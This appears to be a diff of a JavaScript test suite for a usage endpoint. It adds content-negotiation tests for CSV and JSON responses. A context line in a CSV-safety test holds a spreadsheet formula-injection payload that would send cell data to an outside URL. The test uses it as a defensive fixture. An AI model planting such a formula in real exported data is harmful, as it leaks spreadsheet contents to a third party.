@@ -63,6 +63,17 @@ describe("GET /usage", () => {
     expect(rows).toHaveLength(3);
   });
 
+  test.each([
+    ["TEXT/CSV", "text/csv; charset=utf-8"],
+    ["application/json;q=0.9, text/csv", "text/csv; charset=utf-8"],
+    ["text/csv;q=0.5, application/json", "application/json"],
+    ["application/json, text/csv;q=0", "application/json"],
+    ["*/*", "application/json"],
+  ])("for Accept: %s is %s", async (accept, contentType) => {
+    const { headers } = await caller.send("GET", "/usage", undefined, { accept });
+    expect(headers.get("content-type")).toBe(contentType);
+  });
+
   test("as CSV has no cell that a spreadsheet would calculate, and its numbers are numbers", async () => {
     const other = await newCaller(stage);
     const model = '=HYPERLINK("https://example.com/?"&A1,"gpt-4o")';
